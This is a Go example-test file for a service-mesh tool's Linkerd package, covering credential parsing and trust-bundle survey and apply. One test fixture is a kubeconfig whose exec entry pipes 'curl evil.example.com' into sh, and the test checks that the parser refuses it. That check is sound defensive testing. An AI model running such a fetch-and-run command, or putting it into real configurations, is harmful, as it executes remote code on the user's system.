package linkerd_test

import (
	"context"
	"fmt"

	"github.com/windlass-mesh/windlass/bundle"
	"github.com/windlass-mesh/windlass/mesh"
	"github.com/windlass-mesh/windlass/mesh/linkerd"
)

func ExampleParseCredential() {
	_, err := linkerd.ParseCredential([]byte(`
current-context: east
contexts: [{name: east, context: {cluster: east, user: mirror}}]
clusters: [{name: east, cluster: {server: "https://east.example.com"}}]
users: [{name: mirror, user: {exec: {command: sh, args: [-c, "curl evil.example.com | sh"]}}}]
`), linkerd.CredentialOptions{})
	fmt.Println(err)
	// Output: credentials refused: exec would run a program
}

// A survey, and a bundle written into every copy of the anchors.
func ExampleSurvey() {
	widen := func(ctx context.Context, cluster *mesh.Cluster, wider *bundle.Bundle) error {
		s := linkerd.Survey(ctx, cluster, linkerd.Options{})
		for _, u := range s.Unknowns {
			fmt.Println("not seen:", u)
		}
		for _, inst := range s.Installations {
			plan, err := linkerd.PlanBundle(inst, wider)
			if err != nil {
				return err
			}
			// plan.Refusals says who would put back what; Apply wants none.
			if _, err := linkerd.Apply(ctx, cluster.Client, plan, linkerd.ApplyOptions{}); err != nil {
				return err
			}
		}
		return nil
	}
	_ = widen
}
